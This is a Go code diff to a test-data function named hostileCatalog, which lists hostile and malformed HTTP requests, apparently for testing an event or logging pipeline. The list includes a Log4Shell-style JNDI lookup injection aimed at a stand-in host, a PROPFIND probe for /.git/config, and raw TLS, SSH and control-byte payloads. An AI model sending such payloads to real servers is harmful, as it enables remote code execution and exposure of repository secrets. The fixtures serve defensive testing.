@@ -42,7 +42,8 @@ func hostileCatalog() *event.Catalog {
 		c.UserAgents = append(c.UserAgents, text)
 	}
 	c.Requests = []event.RequestText{{}, {Method: "HEAD", Path: "/"}, {Method: "PROPFIND", Path: "/.git/config"}, {Method: "CONNECT", Path: "smtp.example:25"},
-		{Method: "GET", Path: "/?x=${jndi:ldap://probe.example/a}"}, {Path: `\x16\x03\x01\x00{\x01,'&<w`}, {Path: "SSH-2.0-Go"}, {}}
+		{Method: "GET", Path: "/?x=${jndi:ldap://probe.example/a}"}, {Path: `\x16\x03\x01\x00{\x01,'&<w`}, {Path: "SSH-2.0-Go"},
+		{Path: `\x00\x00`}, {Path: `\xFF\xFD\x09\x0B\x08 a \x22b\x5C\x7F`}, {}}
 	c.Releases = []event.AssetNames{{App: "/static/app-1.js", Vendor: "/static/vendor-1.js", Style: "/static/style-1.css"}, {App: "/static/app-2.js", Vendor: "/static/vendor-2.js", Style: "/static/style-2.css"}}
 	return c
 }
